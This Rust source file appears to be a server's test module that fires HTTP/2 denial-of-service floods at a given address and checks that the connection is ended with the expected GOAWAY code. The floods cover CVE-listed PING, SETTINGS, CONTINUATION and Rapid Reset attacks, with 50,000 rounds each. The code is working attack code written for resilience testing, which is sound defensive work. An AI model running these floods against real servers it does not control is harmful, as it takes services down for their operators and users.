//! What costs its sender a few bytes and the server some work, by the ten thousand: the attacks on
//! HTTP/2 that no limit of requests sees.
//!
//! Each is one connection that floods until it is ended. Whoever runs it judges how that was, and
//! what it cost.

use std::net::SocketAddr;

use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedWriteHalf;

use super::{
    ACK, END_HEADERS, END_STREAM, Http2, PADDED, field, frame, get, headers, kind, post, request,
    reset, settings, window,
};

/// ENHANCE_YOUR_CALM (RFC 9113 section 7).
pub const CALM: u32 = 11;
/// PROTOCOL_ERROR.
pub const PROTOCOL: u32 = 1;
/// CANCEL.
const CANCEL: u32 = 8;

/// Rounds of a flood that nobody ends.
const ROUNDS: u32 = 50_000;
/// Rounds that are sent with one write.
const AT_ONCE: u32 = 50;

/// A poll that is not answered for a while.
const WAITING: &str = "/channels/flooded?wait=30";

/// An attack.
#[derive(Clone, Copy)]
pub struct Flood {
    /// What it is.
    pub name: &'static str,
    /// What stands before it.
    opening: fn() -> Vec<u8>,
    /// A round of it, on a new stream of this number where it needs one.
    round: fn(u32) -> Vec<u8>,
    /// The error code that it is to be ended with: [`CALM`], or [`PROTOCOL`] where the first round
    /// is one too many, as an endpoint may take an error of a stream for one of the connection (RFC
    /// 9113 section 5.4.1).
    pub code: u32,
}

impl Flood {
    /// Floods a server until it ends the connection; `reads`: what it says meanwhile is read. The
    /// error code of its GOAWAY, if it came through.
    pub async fn run(&self, addr: SocketAddr, reads: bool) -> Option<u32> {
        let (mut reader, writer) = Http2::connect(addr).await.into_parts();
        if reads {
            return tokio::join!(reader.end(), self.write(writer)).0;
        }
        let _held = self.write(writer).await;
        reader.end().await
    }

    /// Gives the writing side back: dropped, it would end the connection.
    async fn write(&self, mut writer: OwnedWriteHalf) -> OwnedWriteHalf {
        let mut bytes = (self.opening)();
        for first in (0..ROUNDS).step_by(AT_ONCE as usize) {
            for round in first..first + AT_ONCE {
                // 1 is the stream of the opening.
                bytes.extend((self.round)(2 * round + 3));
            }
            if writer.write_all(&bytes).await.is_err() {
                break;
            }
            bytes.clear();
        }
        writer
    }
}

/// All of them.
pub fn all() -> Vec<Flood> {
    [frames(), bodies(), heads(), resets(), provoked()].concat()
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

/// Frames that ask for nothing.
fn frames() -> Vec<Flood> {
    let flood = |name, round| Flood {
        name,
        opening: nothing,
        round,
        code: CALM,
    };
    vec![
        flood("PING (CVE-2019-9512)", |_| frame(kind::PING, 0, 0, &[7; 8])),
        flood("answers to PING", |_| frame(kind::PING, ACK, 0, &[7; 8])),
        flood("SETTINGS (CVE-2019-9515)", |_| settings(&[])),
        flood("SETTINGS that change the windows", |stream| {
            settings(&[(super::INITIAL_WINDOW_SIZE, 60_000 + stream % 7)])
        }),
        flood("WINDOW_UPDATE", |_| window(0, 1)),
        flood("PRIORITY (CVE-2019-9513)", |stream| {
            frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 1])
        }),
        flood("frames of no known type", |_| frame(0xfa, 0, 0, b"grease")),
        Flood {
            name: "WINDOW_UPDATE of a stream",
            opening: || get(1, WAITING),
            round: |_| window(1, 1),
            code: CALM,
        },
    ]
}

/// Bodies without bytes (CVE-2019-9518).
fn bodies() -> Vec<Flood> {
    let opening = || post(1, "/channels/flooded");
    vec![
        Flood {
            name: "empty DATA",
            opening,
            round: |_| frame(kind::DATA, 0, 1, b""),
            code: CALM,
        },
        Flood {
            name: "DATA of nothing but padding",
            opening,
            round: |_| frame(kind::DATA, PADDED, 1, &[3, 0, 0, 0]),
            code: CALM,
        },
    ]
}

/// Heads without end (CVE-2024-27316), and more of them than may be.
fn heads() -> Vec<Flood> {
    let begun = || frame(kind::HEADERS, END_STREAM, 1, &field(":method", "GET"));
    vec![
        Flood {
            name: "empty CONTINUATION",
            opening: begun,
            round: |_| frame(kind::CONTINUATION, 0, 1, b""),
            code: CALM,
        },
        Flood {
            name: "CONTINUATION with a field",
            opening: begun,
            round: |_| frame(kind::CONTINUATION, 0, 1, &field("a", "b")),
            code: CALM,
        },
        Flood {
            name: "CONTINUATION after an empty HEADERS",
            opening: || frame(kind::HEADERS, END_STREAM, 1, b""),
            round: |_| frame(kind::CONTINUATION, 0, 1, &field("a", "b")),
            code: CALM,
        },
        Flood {
            name: "more streams than may be",
            opening: nothing,
            round: |stream| get(stream, WAITING),
            code: CALM,
        },
        Flood {
            name: "malformed requests",
            opening: nothing,
            round: |stream| {
                let fields = [&request("GET", "/healthz")[..], &[("connection", "close")]].concat();
                headers(stream, END_STREAM, &fields)
            },
            code: CALM,
        },
    ]
}

/// Streams that their client ends as soon as they begin (CVE-2023-44487).
fn resets() -> Vec<Flood> {
    let flood = |name, round| Flood {
        name,
        opening: nothing,
        round,
        code: CALM,
    };
    vec![
        flood("rapid reset of waiting polls", |stream| {
            [get(stream, WAITING), reset(stream, CANCEL)].concat()
        }),
        flood("rapid reset of short polls", |stream| {
            let path = "/channels/flooded";
            [get(stream, path), reset(stream, CANCEL)].concat()
        }),
        flood("rapid reset of publishes", |stream| {
            let path = "/channels/flooded";
            [post(stream, path), reset(stream, CANCEL)].concat()
        }),
        flood("rapid reset before the head is whole", |stream| {
            let whole = get(stream, WAITING);
            let (first, rest) = whole[9..].split_at(10);
            [
                frame(kind::HEADERS, END_STREAM, stream, first),
                frame(kind::CONTINUATION, END_HEADERS, stream, rest),
                reset(stream, CANCEL),
            ]
            .concat()
        }),
    ]
}

/// Streams that the server ends as soon as they begin, because their client provokes it
/// (CVE-2025-8671).
fn provoked() -> Vec<Flood> {
    let flood = |name, code, round| Flood {
        name,
        opening: nothing,
        round,
        code,
    };
    vec![
        flood("resets by a window of nothing", PROTOCOL, |stream| {
            [get(stream, WAITING), window(stream, 0)].concat()
        }),
        flood("resets by a window too large", CALM, |stream| {
            let most = window(stream, (1 << 31) - 1);
            [get(stream, WAITING), most].concat()
        }),
        flood("resets by a body behind the end", PROTOCOL, |stream| {
            let data = frame(kind::DATA, 0, stream, b"x");
            [get(stream, WAITING), data].concat()
        }),
        flood("resets by a second head", PROTOCOL, |stream| {
            [get(stream, WAITING), get(stream, WAITING)].concat()
        }),
        flood("resets by a body that is too long", CALM, |stream| {
            let length = [("content-length", "1")];
            let fields = [&request("POST", "/channels/flooded")[..], &length].concat();
            let body = frame(kind::DATA, END_STREAM, stream, b"xx");
            [headers(stream, 0, &fields), body].concat()
        }),
    ]
}
